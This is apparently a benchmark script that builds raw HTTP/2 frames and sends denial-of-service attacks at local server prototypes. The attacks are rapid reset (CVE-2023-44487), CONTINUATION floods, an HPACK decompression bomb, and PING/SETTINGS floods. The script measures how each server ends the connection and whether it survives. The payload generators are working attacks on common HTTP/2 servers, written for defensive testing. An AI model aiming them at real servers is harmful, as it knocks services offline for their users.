"""The issue 14 attacks, sent by hand-built frames to each HTTP/2 engine prototype.

``python benches/h2_engine/attacks.py``: starts each prototype (see measure.py) on a free
port and, one connection per attack, sends:

- ``rapid_reset``: 20,000 HEADERS each followed at once by RST_STREAM(CANCEL)
  (CVE-2023-44487);
- ``continuation_flood``: one HEADERS without END_HEADERS, then CONTINUATION frames of
  16 KiB each, never ending the block (the 2024 CONTINUATION flood), up to 64 MiB;
  ``empty_continuation_flood``: the same with 200,000 empty CONTINUATION frames;
- ``hpack_bomb``: one 4 KiB header put in the dynamic table, then a header block that
  names it 16,000 times by a 1-byte index (64 MiB once decoded, RFC 7541 section 7.3);
- ``ping_flood`` / ``settings_flood``: 200,000 PING / empty SETTINGS frames while never
  reading the PING ACKs / SETTINGS ACKs.

For each it prints one JSON line: how the server ended it (the GOAWAY error code, a
close, or nothing), the bytes it took before that, the frames it sent back, the server's
CPU seconds and peak-RSS growth, and whether the server still answers a fresh
connection afterwards.
"""

import json
import socket
import struct
import subprocess
import time
from pathlib import Path

import measure

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
#: :method GET, :scheme http, :path / (RFC 7541 appendix A indexes 2, 6, 4) and
#: :authority "a" as a literal without indexing (index 1).
GET = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"
ERRORS = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    6: "FRAME_SIZE_ERROR",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}


def frame(kind, flags, stream, payload=b""):
    """One frame (RFC 9113 section 4.1)."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def rapid_reset():
    """HEADERS then RST_STREAM(CANCEL), 20,000 streams."""
    out = bytearray()
    for i in range(20_000):
        sid = 2 * i + 1
        out += frame(HEADERS, END_STREAM | END_HEADERS, sid, GET)
        out += frame(RST, 0, sid, struct.pack(">I", 8))
    return bytes(out)


def continuation_flood():
    """A header block that never ends: 4096 CONTINUATION frames of 16 KiB."""
    junk = bytes([0x00, 0x05]) + b"x-aaa" + bytes([0x7F, 0x81, 0x7F]) + b"b" * 254
    chunk = (junk * (16384 // len(junk) + 1))[:16384]
    out = bytearray(frame(HEADERS, 0, 1, GET))
    for _ in range(4096):
        out += frame(CONTINUATION, 0, 1, chunk)
    return bytes(out)


def empty_continuation_flood():
    """A header block that never ends, in 200,000 empty CONTINUATION frames: no byte
    limit is ever reached, only a frame count stops it."""
    return frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1) * 200_000


def hpack_bomb():
    """One 4 KiB header into the dynamic table, then 16,000 references to it."""
    value = b"v" * 4000
    # Literal with incremental indexing, new name (RFC 7541 section 6.2.1); the value's
    # length as a 7-bit-prefix integer (4000 = 127 + 3873).
    first = bytes([0x40, 0x03]) + b"x-b" + bytes([0x7F, 0xA1, 0x1E]) + value
    out = frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + first)
    # Index 62 is the newest dynamic entry (RFC 7541 section 2.3.3): 0xBE.
    block = GET + bytes([0xBE]) * 16_000
    out += frame(HEADERS, 0, 3, block[:16384])
    return out + frame(CONTINUATION, END_HEADERS, 3, block[16384:])


def ping_flood():
    """200,000 PINGs; the ACKs are never read."""
    return frame(PING, 0, 0, b"12345678") * 200_000


def settings_flood():
    """200,000 empty SETTINGS; the ACKs are never read."""
    return frame(SETTINGS, 0, 0) * 200_000


def read_frames(sock, seconds):
    """Frames the server sends until it closes or goes quiet; (kinds count, goaway)."""
    sock.settimeout(seconds)
    buf, counts, goaway, closed = b"", {}, None, False
    try:
        while True:
            chunk = sock.recv(1 << 16)
            if not chunk:
                closed = True
                break
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, payload = buf[3], buf[9 : 9 + length]
                counts[kind] = counts.get(kind, 0) + 1
                if kind == GOAWAY and goaway is None:
                    goaway = ERRORS.get(int.from_bytes(payload[4:8], "big"), "?")
                buf = buf[9 + length :]
    except (TimeoutError, socket.timeout):
        pass
    except OSError:
        closed = True
    return counts, goaway, closed


def attack(port, payload):
    """Sends the payload (stopping if the server stops taking it) and reads the ending."""
    sock = socket.create_connection(("127.0.0.1", port))
    sock.settimeout(5)
    sent, stalled = 0, False
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        view = memoryview(payload)
        while sent < len(payload):
            sent += sock.send(view[sent : sent + 65536])
    except (TimeoutError, socket.timeout):
        stalled = True
    except OSError:
        pass
    counts, goaway, closed = read_frames(sock, 2.0)
    sock.close()
    names = {
        DATA: "DATA",
        HEADERS: "HEADERS",
        RST: "RST_STREAM",
        SETTINGS: "SETTINGS",
        PING: "PING",
        GOAWAY: "GOAWAY",
    }
    back = {names.get(k, str(k)): v for k, v in sorted(counts.items())}
    return {
        "sent_bytes": sent,
        "of_bytes": len(payload),
        "stalled": stalled,
        "goaway": goaway,
        "closed": closed,
        "frames_back": back,
    }


def peak_rss_kib(pid):
    """VmHWM of a process, KiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def still_serves(port):
    """Whether a fresh connection gets an answer."""
    cmd = ["h2load", "-n", "10", "-c", "1", f"http://127.0.0.1:{port}/"]
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=20).stdout
    return "10 succeeded" in out


ATTACKS = [
    rapid_reset,
    continuation_flood,
    empty_continuation_flood,
    hpack_bomb,
    ping_flood,
    settings_flood,
]


def main():
    args = measure.argparse.Namespace(granian=False, tls=False)
    for name, argv in measure.servers(args):
        for make in ATTACKS:
            port = measure.free_port()
            cmd = [a.replace("{port}", str(port)) for a in argv]
            proc = subprocess.Popen(cmd, stderr=subprocess.DEVNULL)
            try:
                measure.wait_ready(port, proc)
                rss, cpu, t0 = (
                    peak_rss_kib(proc.pid),
                    measure.cpu_seconds(proc.pid),
                    time.monotonic(),
                )
                row = attack(port, make())
                row.update(
                    server=name,
                    attack=make.__name__,
                    seconds=round(time.monotonic() - t0, 2),
                    cpu_s=round(measure.cpu_seconds(proc.pid) - cpu, 2),
                    rss_growth_kib=peak_rss_kib(proc.pid) - rss,
                    alive=proc.poll() is None and still_serves(port),
                )
            finally:
                proc.terminate()
                proc.wait(timeout=10)
            print(json.dumps(row), flush=True)


if __name__ == "__main__":
    main()
